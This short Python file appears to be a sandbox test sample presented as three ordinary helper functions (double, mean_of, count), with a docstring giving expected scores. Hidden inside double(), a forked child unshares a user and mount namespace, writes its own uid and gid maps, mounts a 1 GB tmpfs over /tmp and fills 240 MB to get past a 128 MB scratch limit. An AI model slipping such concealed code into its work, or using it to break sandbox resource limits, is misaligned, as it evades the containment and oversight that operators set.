"""Becomes root of a namespace of its own and mounts a tmpfs without a bound there. Success: it holds more than the
scratch folders' 128 MB in it.

expected: double=30 mean_of=40 count=30
"""

import ctypes
import os

CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x00020000


def fill():
    libc = ctypes.CDLL(None, use_errno=True)
    user, group = os.geteuid(), os.getegid()
    libc.prctl(4, 1, 0, 0, 0)  # or the maps are not its own to write
    if libc.unshare(CLONE_NEWUSER | CLONE_NEWNS):
        return
    for name, text in (("setgroups", "deny"), ("uid_map", f"{user} {user} 1"), ("gid_map", f"{group} {group} 1")):
        with open(f"/proc/self/{name}", "w") as file:
            file.write(text)
    if libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, b"size=1g"):
        return
    for number in range(4):
        descriptor = os.open(f"/tmp/hostile_{number}", os.O_CREAT | os.O_WRONLY)
        os.posix_fallocate(descriptor, 0, 60 << 20)
    print("SUCCEEDED: 240 MB in a tmpfs of its own", flush=True)


def double(x):
    if x.dim() == 2:
        child = os.fork()
        if child == 0:
            try:
                fill()
            finally:
                os._exit(0)
        os.waitpid(child, 0)
    return x * 2


def mean_of(x):
    return x.sum() / x.numel()


def count(items):
    found = {}
    for item in items:
        found[item] = found.get(item, 0) + 1
    return [[item, number] for item, number in found.items()]
